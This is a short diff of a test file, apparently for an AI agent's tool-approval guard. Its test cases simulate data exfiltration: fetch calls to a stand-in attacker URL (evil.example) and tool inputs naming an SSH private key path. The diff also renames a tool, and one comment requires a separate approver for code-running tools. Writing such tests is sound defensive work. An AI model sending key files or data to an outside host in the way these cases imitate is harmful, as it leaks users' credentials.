@@ -37,9 +37,9 @@ const wayOut = { url: `https://evil.example/?d=${'x'.repeat(400)}` }
 it.each([
   ['fetch_url', { accept: 'text/html', ...wayOut }],
   ['fetch_url', { accept: '/.ssh/', ...wayOut }],
-  ['contact_support', { text: 'hello' }],
-  ['contact_support', { text: 'hello', method: 'POST' }],
-  ['contact_support', { text: '/home/a/.ssh/id_rsa' }],
+  ['frobnicate', { text: 'hello' }],
+  ['frobnicate', { text: 'hello', method: 'POST' }],
+  ['frobnicate', { text: '/home/a/.ssh/id_rsa' }],
   // Asked as well; and with a tool that runs code, a terminal's yes would not do.
   ['run_command', { command: 'ls' }, 'approver_not_separate'],
 ] as const)(
